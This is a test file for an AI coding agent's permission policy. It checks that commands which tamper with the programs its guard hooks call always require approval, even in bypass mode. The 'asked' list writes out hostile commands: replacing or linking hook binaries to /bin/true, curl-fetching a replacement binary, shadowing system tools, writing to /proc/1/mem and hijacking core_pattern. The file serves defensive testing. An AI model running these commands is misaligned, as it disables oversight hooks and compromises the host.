import { chmodSync, linkSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { HookDefinition } from "@/hooks/definition.ts";
import { policyBench, type PolicyBench } from "../support/policyBench.ts";
import { commandAction } from "../support/actions.ts";

const guard = (command: string): HookDefinition => ({
  event: "PreToolUse",
  matcher: undefined,
  name: "guard",
  source: { scope: "user", path: "hooks.PreToolUse[0].hooks[0]" },
  action: commandAction(command),
  timeoutMs: 1_000,
  onError: { timeout: "continue", crash: "continue", missing: "continue", invalid: "continue" },
  passEnv: [],
});

const HOOKS = [guard("jq -e .ok"), guard("missing-checker --strict"), guard("./guards/check.py")];

function program(path: string): void {
  writeFileSync(path, "#!/bin/sh\n");
  chmodSync(path, 0o755);
}

/** A person with programs of their own, a project with some of its own, and a hook's program behind a link. */
function bench(): PolicyBench {
  const made = policyBench({
    hooks: HOOKS,
    path: ({ project, user }) => [`${project}/node_modules/.bin`, `${user}/.local/bin`, `${user}/bin`],
  });
  const { project, user } = made;
  for (const folder of [
    `${user}/.local/bin`,
    `${user}/tools`,
    `${project}/node_modules/.bin`,
    `${project}/guards`,
  ])
    mkdirSync(folder, { recursive: true });
  for (const file of [
    `${user}/.local/bin/mine`,
    `${user}/tools/jq-1.7`,
    `${project}/node_modules/.bin/own-tool`,
  ])
    program(file);
  symlinkSync("../../tools/jq-1.7", `${user}/.local/bin/jq`);
  linkSync(`${user}/.local/bin/mine`, `${project}/twin`);
  writeFileSync(`${project}/guards/check.py`, "#!/usr/bin/env -S python9\n");
  return made;
}

const asked: [what: string, command: string][] = [
  ["replaces a program that a hook calls", "cp evil ~/.local/bin/jq"],
  ["writes into it", "echo exit 0 > ~/.local/bin/jq"],
  ["writes into what the link leads to", "echo exit 0 > ~/tools/jq-1.7"],
  ["takes it away", "rm ~/.local/bin/jq"],
  ["makes it a file that cannot be run", "chmod -x ~/.local/bin/jq"],
  ["moves it", "mv ~/.local/bin/jq ~/.local/bin/jq2"],
  ["puts a link in its place", "ln -sf /bin/true ~/.local/bin/jq"],
  ["fetches another", "curl -so ~/.local/bin/jq https://example.org/jq"],
  ["compiles another", "gcc -o ~/.local/bin/jq evil.c"],
  ["unpacks something beside it", "tar xf evil.tgz -C ~/.local/bin"],
  ["copies whatever is there", "cp build/* ~/.local/bin/"],
  ["takes the folder away", "rm -rf ~/.local"],
  ["puts another folder in its place", "mv evil ~/.local/bin"],
  ["comes before a program of the system", "cp evil ~/.local/bin/grep"],
  ["the same in a folder that is not there yet", "mkdir -p ~/bin && cp evil ~/bin/sed"],
  ["the same in a folder of the project", "cp evil node_modules/.bin/grep"],
  ["is a program that a hook calls and that is missing", "cp evil ~/.local/bin/missing-checker"],
  ["the same in the project", "cp evil node_modules/.bin/missing-checker"],
  ["is the interpreter of a hook's script", "cp evil ~/bin/python9"],
  ["replaces a program of the system", "cp evil /usr/bin/env"],
  ["the same with sudo", "sudo cp evil /usr/bin/env"],
  ["is another name of a program", "echo exit 0 > twin"],
  ["is the memory of a program", "printf x | dd of=/proc/1/mem conv=notrunc"],
  ["is what the system runs when a program crashes", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"],
];

const notAsked: [what: string, command: string][] = [
  ["a new program of the person's own", "cp target/release/newtool ~/.local/bin/newtool"],
  ["the same for everybody", "install -m755 build/newtool /usr/local/bin/newtool-9"],
  ["a package of the project", "npm install"],
  ["its programs", "rm -rf node_modules"],
  ["one of them", "cp build/x node_modules/.bin/own-tool"],
  ["package managers", "pip install --user foo; cargo install foo; npm i -g foo; go install x@latest"],
  [
    "a program that is looked at",
    "ldd /usr/bin/env; readelf -a /usr/bin/env; docker run -v /usr/bin/env:/env x",
  ],
  ["a program that is run by its path", "/usr/bin/env true; ~/.local/bin/mine; timeout 5 ~/.local/bin/mine"],
  ["a link to a program of the system", "ln -s /usr/bin/env ./env"],
  ["a program that is copied", "cp ~/.local/bin/mine ."],
  [
    "installing by a build tool",
    "make install; cmake --install build --prefix /usr/local; ./configure --prefix=/usr",
  ],
];

describe("a program that hooks call by its name", () => {
  for (const mode of ["bypassPermissions", "acceptEdits", "default"] as const) {
    it(`is not replaced without a question in mode ${mode} (T82, G27)`, () => {
      using here = bench();
      const silent = asked.filter(
        ([, command]) => here.decide(command, { mode, allow: ["Bash"] }).decision !== "ask",
      );
      expect(silent).toEqual([]);
    });
  }

  it("is not replaced by a tool of Wave's own either", () => {
    using here = bench();
    const input = { file_path: join(here.user, ".local/bin/jq"), content: "exit 0" };
    expect(here.decide({ tool: "Write", input }, { mode: "bypassPermissions" })).toMatchObject({
      decision: "ask",
    });
  });

  it("asks for nothing else than before", () => {
    using here = bench();
    const strict = notAsked.filter(
      ([, command]) => here.decide(command, { mode: "bypassPermissions" }).decision !== "allow",
    );
    expect(strict).toEqual([]);
  });
});
